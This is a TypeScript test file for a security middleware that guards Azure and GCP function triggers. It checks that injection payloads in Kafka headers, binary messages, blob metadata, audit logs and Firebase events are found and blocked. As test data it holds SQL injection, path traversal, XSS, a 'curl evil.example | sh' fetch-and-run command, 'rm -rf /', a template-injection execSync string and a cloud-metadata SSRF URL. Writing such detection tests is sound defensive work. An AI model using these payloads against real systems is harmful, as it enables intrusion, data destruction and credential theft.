/**
 * Where caller-controlled data sits in Azure and GCP trigger payloads, beyond the shared tables of
 * azure-functions.test.ts and gcp-functions.test.ts: the paths and trigger names findings carry, Kafka
 * records and their base64 headers, binary messages (read by their text, or not at all), Cloud Audit
 * Logs, Firebase events. Real `@azure/functions` InvocationContext, real functions-framework server;
 * payloads written for this project from the documented shapes.
 */
import t from 'tap';
import { randomUUID } from 'node:crypto';
import type { AddressInfo } from 'node:net';
import { InvocationContext } from '@azure/functions';
import * as functions from '@google-cloud/functions-framework';
import { getTestServer } from '@google-cloud/functions-framework/testing';
import { protect as protectAzure, RequestBlockedError } from '../../adapters/azure-functions/index';
import { protect as protectGcp, type SecurityEvent } from '../../adapters/gcp-functions/index';
import { kafkaRecord } from '../helpers/azure-events';
import { noise } from '../helpers/noise';

type Any = any;

const b64 = (s: string | Uint8Array): string => Buffer.from(s).toString('base64');

function logs() {
  const lines: SecurityEvent[] = [];
  return { lines, log: (line: string) => lines.push(JSON.parse(line) as SecurityEvent) };
}

/** A protobuf message with two string fields and a varint, as a schema-encoded publisher sends it. */
function protobuf(sku: string, note: string): Buffer {
  const str = (no: number, s: string) => {
    const b = Buffer.from(s, 'utf8');
    return Buffer.concat([Buffer.from([(no << 3) | 2, b.length]), b]);
  };
  return Buffer.concat([str(1, sku), str(3, note), Buffer.from([2 << 3, 2])]);
}

// ---- Azure ----

function azureContext(trigger: Record<string, unknown>, triggerMetadata?: Record<string, unknown>): InvocationContext {
  return new InvocationContext({ invocationId: randomUUID(), functionName: 'consumer', triggerMetadata, logHandler: () => undefined, options: { trigger: trigger as Any } });
}

const KAFKA = { type: 'kafkaTrigger', name: 'event', topic: 'orders', brokerList: '%BrokerList%', consumerGroup: '$Default', dataType: 'string' };

/** Runs one Azure invocation; gives the blocking error (or undefined) and the security events. */
async function azure(payload: unknown, trigger: Record<string, unknown>, metadata?: Record<string, unknown>, options: Any = {}) {
  const { lines, log } = logs();
  let ran = false;
  const handler = protectAzure(async () => {
    ran = true;
  }, { log, ...options });
  const err = await handler(payload, azureContext(trigger, metadata)).then(
    () => undefined,
    (e: unknown) => e,
  );
  return { err, ran, lines };
}

t.test('Azure Kafka: records, keys and base64 header values, with their paths', async (t) => {
  const attack = "x'; DROP TABLE customers; --";
  let r = await azure(kafkaRecord('{"order":7}', [{ Key: 'trace-id', Value: b64('4bf92f35') }, { Key: 'origin', Value: b64(attack) }]), KAFKA);
  t.type(r.err, RequestBlockedError);
  t.equal(r.lines[0]?.trigger, 'kafka');
  // The record's own walk reads the base64 text (engine.ts, base64Text); the adapter's decoded header
  // source (`payload.Headers[1].Value`, the same string) is then not read a second time: each finding
  // once, under one path.
  t.equal(r.lines[0]?.where, 'payload.Headers[1].Value["#base64"]', 'the header value, decoded');
  const paths = (r.lines[0]?.findings ?? []).map((f) => `${f.rule} ${f.path}`);
  t.same(paths, [...new Set(paths)], 'no finding repeated');
  t.ok(paths.length > 0 && paths.every((p) => p.endsWith('payload.Headers[1].Value["#base64"]')), 'one path for the header value');
  // Base64 JSON in a header (`eyJ…`) is read by the walk as JSON, once as well.
  r = await azure(kafkaRecord('{"order":7}', [{ Key: 'ctx', Value: b64(JSON.stringify({ user: attack })) }]), KAFKA);
  t.same(
    (r.lines[0]?.findings ?? []).map((f) => f.path),
    ['payload.Headers[0].Value["#base64"].user'],
    'a base64 JSON header value, one finding',
  );
  // A value too short for the walk to try base64 (under 16 characters) is read by the header source.
  r = await azure(kafkaRecord('{"order":7}', [{ Key: 'cmd', Value: b64('|id') }]), KAFKA);
  t.type(r.err, RequestBlockedError, 'a short header value');
  t.same(
    (r.lines[0]?.findings ?? []).map((f) => f.path),
    ['payload.Headers[0].Value'],
    'read once, by the decoded header source',
  );

  r = await azure([kafkaRecord('{"order":6}'), kafkaRecord(JSON.stringify({ order: 7, note: attack }))], { ...KAFKA, cardinality: 'MANY' });
  t.type(r.err, RequestBlockedError);
  t.equal(r.lines[0]?.where, 'payload[1].Value.note');
  t.match(r.lines[0]?.requestId, /#1$/, 'the record index is in the event');

  // dataType binary: the value's bytes; key and headers in the trigger metadata.
  const binary = { ...KAFKA, dataType: 'binary' };
  r = await azure(Buffer.from('{"order":7}'), binary, { key: attack, partition: 2, offset: 1042, topic: 'orders', headers: [] });
  t.equal(r.lines[0]?.where, 'triggerMetadata.key');
  r = await azure([Buffer.from('{"order":6}'), Buffer.from('{"order":7}')], { ...binary, cardinality: 'MANY' }, { keyArray: ['a', 'b'], headersArray: [[], [{ key: 'origin', value: b64(attack) }]] });
  t.equal(r.lines[0]?.where, 'triggerMetadata.headersArray[1][0].value');

  // Benign: the handler runs; binary values and keys that are not text are not read as text.
  for (let i = 0; i < 30; i++) {
    const ok = await azure(noise(i, 64 + i * 29), binary, { key: noise(i + 100, 8).toString('latin1'), headers: [{ key: 'schema-id', value: b64(noise(i + 200, 4)) }] });
    t.ok(ok.ran && ok.err === undefined, `binary record #${i}`);
  }
  const ok = await azure(kafkaRecord('{"order":7,"note":"gift wrap"}', [{ Key: 'content-type', Value: b64('application/json') }]), KAFKA);
  t.ok(ok.ran && ok.lines.length === 0, 'a benign record passes without an event');

  // A header value that is not base64: read as received, a protocol finding at paranoia 2.
  const odd = await azure(kafkaRecord('{}', [{ Key: 'x', Value: 'not base64!' }]), KAFKA, undefined, { paranoia: 2 });
  t.equal(odd.lines[0]?.rule, 'protocol.invalid-base64');
  t.equal(odd.lines[0]?.where, 'payload.Headers[0].Value');
  for (const junk of [null, 5, 'text', { Headers: 'x' }, { Value: 1, Headers: [null, { Key: 1 }, { Value: null }] }, [null], []]) {
    const j = await azure(junk, KAFKA, { keyArray: 'x', headersArray: [5] });
    t.ok(j.ran && j.err === undefined, `malformed: ${JSON.stringify(junk)}`);
  }
});

t.test('Azure: binary messages are read by their text runs, or not at all', async (t) => {
  const EH = { type: 'eventHubTrigger', name: 'events', eventHubName: 'telemetry', cardinality: 'many' };
  const batch = Array.from({ length: 40 }, (_, i) => noise(i + 1, 48 + i * 37));
  const ok = await azure(batch, EH, { propertiesArray: batch.map(() => ({})) });
  t.ok(ok.ran && ok.lines.length === 0, 'forty random (encrypted, compressed) messages pass');
  const bad = await azure([noise(7, 64), protobuf('BK-1042', '../../../../etc/passwd')], EH, { propertiesArray: [{}, {}] });
  t.type(bad.err, RequestBlockedError, 'a string field of a protobuf message is read');
  t.equal(bad.lines[0]?.where, 'payload[1][0]');
  const sb = await azure(protobuf('BK-1042', '$(curl http://evil.example/x.sh | sh)'), { type: 'serviceBusTrigger', name: 'message', queueName: 'orders' }, { messageId: 'm-1' });
  t.type(sb.err, RequestBlockedError, 'Service Bus, one binary message');
});

t.test('Azure SQL trigger: each change is a unit, the row is the caller\'s', async (t) => {
  const r = await azure(
    [
      { Item: { OrderId: 6, Note: 'ok' }, Operation: 0 },
      { Item: { OrderId: 7, Note: '<script>alert(document.cookie)</script>' }, Operation: 1 },
    ],
    { type: 'sqlTrigger', name: 'changes', tableName: 'dbo.Orders', connectionStringSetting: 'SqlConnectionString' },
  );
  t.type(r.err, RequestBlockedError);
  t.equal(r.lines[0]?.trigger, 'sql');
  t.equal(r.lines[0]?.where, 'payload[1].Item.Note');
});

t.test('Azure blob: Content-Disposition is the uploader\'s, the other properties are not inspected', async (t) => {
  const props = (contentDisposition: string) => ({
    blobTrigger: 'uploads/report.pdf',
    uri: 'https://shopstore.blob.core.windows.net/uploads/report.pdf',
    properties: { contentType: 'application/pdf', contentDisposition, length: 5, eTag: '"0x8DC0A1B2C3D4E5F"', blobType: 'BlockBlob', leaseState: 'Available' },
    metadata: { owner: 'jane' },
    name: 'report.pdf',
  });
  const BLOB = { type: 'blobTrigger', name: 'blob', path: 'uploads/{name}' };
  const bad = await azure(Buffer.from('%PDF-1.7'), BLOB, props('attachment; filename="../../../../etc/passwd"'));
  t.equal(bad.lines[0]?.where, 'triggerMetadata.properties.contentDisposition');
  const ok = await azure(Buffer.from('%PDF-1.7'), BLOB, props('attachment; filename="Q2 report (final).pdf"'));
  t.ok(ok.ran && ok.lines.length === 0);
});

// ---- GCP ----

let fn = 0;
async function serveCloudEvent(handler: (ce: Any) => unknown, options: Any) {
  const name = `parity-${++fn}`;
  functions.cloudEvent(name, protectGcp(handler as Any, options));
  const server = getTestServer(name);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
}

const ce = (type: string, source: string, extra: Record<string, string> = {}) => ({ 'ce-specversion': '1.0', 'ce-id': randomUUID(), 'ce-type': type, 'ce-source': source, 'ce-time': '2026-05-01T10:00:00Z', ...extra });

t.test('GCP: trigger names and clean paths for audit logs, Realtime Database, Remote Config, Storage', async (t) => {
  const { lines, log } = logs();
  const srv = await serveCloudEvent(async () => undefined, { log });
  t.teardown(srv.close);
  const post = (headers: Record<string, string>, data: unknown) => fetch(srv.url, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body: JSON.stringify(data) });
  await post(ce('google.cloud.audit.log.v1.written', '//cloudaudit.googleapis.com/projects/p/logs/activity', { 'ce-subject': 'storage.googleapis.com/projects/_/buckets/b' }), {
    protoPayload: { serviceName: 'storage.googleapis.com', methodName: 'storage.buckets.create', resourceName: 'projects/_/buckets/b', request: { bucket: { name: 'b', labels: { team: "x' OR '1'='1" } } }, authenticationInfo: { principalEmail: 'jane@shop.example' } },
    logName: 'projects/p/logs/cloudaudit.googleapis.com%2Factivity',
  });
  await post(ce('google.firebase.database.ref.v1.written', '//firebasedatabase.googleapis.com/projects/_/locations/us-central1/instances/db', { 'ce-subject': 'refs/orders/7' }), { data: null, delta: { note: '<img src=x onerror=alert(1)>' } });
  await post(ce('google.firebase.remoteconfig.remoteConfig.v1.updated', '//firebaseremoteconfig.googleapis.com/projects/p'), { versionNumber: '3', description: '{{constructor.constructor("return process")().mainModule.require("child_process").execSync("id")}}', updateUser: { email: 'jane@shop.example' } });
  await post(ce('google.cloud.storage.object.v1.finalized', '//storage.googleapis.com/projects/_/buckets/uploads', { 'ce-subject': 'objects/a.pdf' }), { bucket: 'uploads', name: 'a.pdf', contentType: 'application/pdf', contentDisposition: 'attachment; filename="../../../../etc/passwd"' });
  t.same(
    lines.map((l) => [l.trigger, l.where]),
    [
      ['audit-log', 'data.protoPayload.request.bucket.labels.team'],
      ['database', 'data.delta.note'],
      ['remote-config', 'data.description'],
      ['storage', 'data.contentDisposition'],
    ],
  );
});

t.test('GCP: binary CloudEvent data is read by its text runs, or not at all', async (t) => {
  const { lines, log } = logs();
  const got: Any[] = [];
  const srv = await serveCloudEvent(async (e: Any) => void got.push(e), { log });
  t.teardown(srv.close);
  const post = (data: Buffer) => fetch(srv.url, { method: 'POST', headers: { 'content-type': 'application/octet-stream', ...ce('com.example.blob.v1', '/uploads') }, body: data });
  for (let i = 0; i < 40; i++) t.equal((await post(noise(i + 1, 64 + i * 41))).status, 204);
  t.equal(got.length, 40, 'random (compressed, encrypted) data reaches the handler');
  t.same(lines, []);
  t.equal((await post(protobuf('BK-1042', 'a.txt && rm -rf /'))).status, 204, 'acknowledged');
  t.equal(got.length, 40, 'and dropped');
  t.equal(lines[0]?.where, 'data[0]');
});

t.test('GCP: a legacy Firebase Auth event carries what the user signed up with', async (t) => {
  const { lines, log } = logs();
  let calls = 0;
  const fnAuth = protectGcp(((_data: {}, _context: functions.Context) => {
    calls++;
    return 'ok';
  }) as functions.EventFunction, { log });
  const user = (p: Record<string, unknown>) => ({
    uid: 'x9Fk2LmP0aQ7sT4vW1yZ3bC5dE6g',
    email: 'jane@shop.example',
    emailVerified: false,
    displayName: 'Jane Doe',
    photoURL: 'https://lh3.googleusercontent.com/a/ACg8ocJx=s96-c',
    providerData: [{ providerId: 'google.com', uid: '109876543210987654321', email: 'jane@shop.example', displayName: 'Jane Doe', photoURL: 'https://lh3.googleusercontent.com/a/ACg8ocJx=s96-c' }],
    metadata: { creationTime: '2026-05-01T10:00:00Z', lastSignInTime: '2026-05-01T10:00:00Z' },
    ...p,
  });
  const context = (id: string) => ({ eventId: id, eventType: 'providers/firebase.auth/eventTypes/user.create', resource: 'projects/shop-prod', timestamp: '2026-05-01T10:00:00Z' });
  t.equal(await fnAuth(user({}), context('a1')), 'ok');
  t.equal(await fnAuth(user({ displayName: "Robert'); DROP TABLE users; --" }), context('a2')), undefined);
  t.equal(await fnAuth(user({ photoURL: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' }), context('a3')), undefined);
  t.equal(calls, 1);
  t.same(lines.map((l) => l.where), ['data.displayName', 'data.photoURL']);
});
